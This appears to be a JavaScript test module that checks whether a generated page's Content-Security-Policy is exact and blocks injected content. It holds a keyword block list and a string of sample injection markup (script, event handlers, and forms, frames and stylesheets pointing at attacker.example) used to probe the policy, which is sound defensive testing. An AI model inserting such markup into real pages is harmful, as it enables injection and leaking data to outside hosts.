// What is checked of a page's policy, and that it asks for nothing.
const crypto = require("crypto");
const fs = require("fs");
const { View } = require("./browser.cjs");

exports.checks = ["forbidden", "policy", "policy-stops", "size"];

const forbidden = ["url(", "@import", "src=", "<link", "<script", "<form", "<iframe"];

// read makes the checks that need no browser.
exports.read = (text, { limit = 1 << 20 }) => {
  const found = forbidden.filter((word) => text.toLowerCase().includes(word)).map((word) => ({ check: "forbidden", what: `${word} in …${around(text, word)}…` }));
  const size = Buffer.byteLength(text);
  if (size > limit) found.push({ check: "size", what: `${size} bytes, more than ${limit}` });
  return [...found, ...policy(text).map((what) => ({ check: "policy", what }))];
};

function around(text, word) {
  const i = text.toLowerCase().indexOf(word);
  return text.slice(Math.max(0, i - 60), i + 60).replace(/\s+/g, " ");
}

exports.hash = (style) => "sha256-" + crypto.createHash("sha256").update(style, "utf8").digest("base64");

// policy holds the policy against what the page has to have, word for word.
function policy(text) {
  const styles = [...text.matchAll(/<style[^>]*>([^]*?)<\/style>/g)];
  if (styles.length !== 1) return [`${styles.length} style elements`];
  const want = ["default-src 'none'", `style-src '${exports.hash(styles[0][1])}'`, "img-src 'none'", "base-uri 'none'", "form-action 'none'"].join("; ");
  const head = /<head>\s*<meta charset="utf-8"\s*\/?>\s*<meta http-equiv="Content-Security-Policy" content="([^"]*)"/i.exec(text);
  if (!head) return ["no policy right after the charset"];
  const is = head[1].replace(/&#39;|&#x27;|&apos;/g, "'").replace(/&#43;/g, "+").replace(/;$/, "");
  const found = is === want ? [] : [`is ${is}, want ${want}`];
  const inline = /<[a-z][^>]*\s(style|on[a-z]+)=/i.exec(text);
  return inline ? [...found, `an attribute that the policy stops: ${inline[0].slice(0, 120)}`] : found;
}

// injected is what an attacker would like to add, and what would tell that it worked.
const injected = `
<img src="https://attacker.example/image.png" alt="">
<img src="x.png" alt="" onerror="window.ran = 'a handler'"><svg onload="window.ran = 'a handler of a drawing'"></svg>
<script>window.ran = "a script"</script>
<p id="styled" style="letter-spacing: 7px">styled</p>
<style>#styled { word-spacing: 7px }</style>
<link rel="stylesheet" href="https://attacker.example/style.css">
<iframe src="https://attacker.example/frame.html" title="frame"></iframe>
<object data="https://attacker.example/object"></object>
<form id="sent" action="https://attacker.example/form"><input name="a"></form>
<base href="https://attacker.example/">`;

// stops adds all that to a copy, and says what of it worked.
exports.stops = async (browser, text, file) => {
  fs.writeFileSync(file, text.replace(/<\/main>/, () => injected + "</main>"));
  const view = await View.open(browser, file);
  try {
    const said = await view.page.evaluate(() => {
      document.querySelector("#sent").submit();
      const styled = getComputedStyle(document.querySelector("#styled"));
      return { ran: window.ran, base: document.baseURI, spacing: [styled.letterSpacing, styled.wordSpacing], rules: window.wellbeing.rules() };
    });
    const found = view.requests.map((url) => `asked for ${url}`);
    if (said.ran) found.push(`${said.ran} ran`);
    if (said.base.includes("attacker")) found.push("the base was changed");
    if (said.spacing.includes("7px")) found.push("a style was applied");
    if (said.rules === 0) found.push("the page's own style was stopped");
    return found.map((what) => ({ check: "policy-stops", what }));
  } finally {
    await view.close();
  }
};
